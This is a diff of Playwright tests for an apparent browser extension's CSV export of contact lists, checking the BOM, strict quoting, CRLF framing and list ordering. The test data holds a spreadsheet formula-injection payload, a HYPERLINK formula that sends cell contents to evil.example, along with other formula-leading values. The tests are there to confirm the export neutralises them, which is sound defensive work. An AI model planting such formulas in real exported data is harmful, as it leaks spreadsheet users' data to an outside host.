@@ -49,6 +49,8 @@ const contacts = [
   {
     baseContactId: 'urn:li:member:2',
     fullName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    // Excel with a ";" list separator splits on ";": quoting keeps this one cell of text.
+    headline: 'Sales;=1+1',
     role: '-Chief Revenue Officer',
     companyName: '@Globex',
   },
@@ -80,11 +82,11 @@ async function saveBy(page: Page, click: () => Promise<void>): Promise<{ downloa
   return { download, bytes: await readFile(path) };
 }
 
-/** Checks the BOM and strict RFC 4180 framing (CRLF after every record), then parses. */
+/** Checks the BOM and strict RFC 4180 framing (every field quoted, CRLF after every record), then parses. */
 function parseCsvFile(bytes: Buffer): string[][] {
   expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes.subarray(3));
-  const field = '(?:"(?:[^"]|"")*"|[^",\\r\\n]*)';
+  const field = '"(?:[^"]|"")*"';
   expect(text).toMatch(new RegExp(`^(?:${field}(?:,${field})*\\r\\n)+$`));
   const parsed = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' });
   expect(parsed.errors).toEqual([]);
@@ -129,6 +131,7 @@ test('"Export CSV" saves the list as a UTF-8 CSV with a BOM, CRLF, a header and 
   });
   expect(attacker).toMatchObject({
     fullName: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+    headline: 'Sales;=1+1',
     role: "'-Chief Revenue Officer",
     companyName: "'@Globex",
     currentTitle: "'-Chief Revenue Officer",
@@ -146,9 +149,13 @@ test('"Export all" on the lists view saves every list in one file with a list co
   const panel = await context.newPage();
   await panel.goto(extensionUrl('sidepanel.html'));
   const older = await createList(panel, 'Fintech CROs', contacts.slice(0, 2));
-  // Lists are ordered by capture time: let the clock move before the second one.
-  await expect(panel.getByRole('link', { name: 'Fintech CROs' })).toBeVisible();
+  // Lists are ordered by capture time (ms), then by random id: two lists created within the
+  // same millisecond would come out in either order. Wait until the clock has passed the first.
+  await expect.poll(() => panel.evaluate(() => Date.now())).toBeGreaterThan(Date.parse(older.createdAt));
   const newer = await createList(panel, 'Müller GmbH – Vertrieb', contacts.slice(2));
+  expect(Date.parse(newer.createdAt)).toBeGreaterThan(Date.parse(older.createdAt));
+  // The button only exists once the Lists view has read the lists; both must be shown first.
+  await expect(panel.getByRole('link', { name: 'Fintech CROs' })).toBeVisible();
   await expect(panel.getByRole('link', { name: 'Müller GmbH – Vertrieb' })).toBeVisible();
 
   const { download, bytes } = await saveBy(panel, () => panel.getByRole('button', { name: 'Export all' }).click());
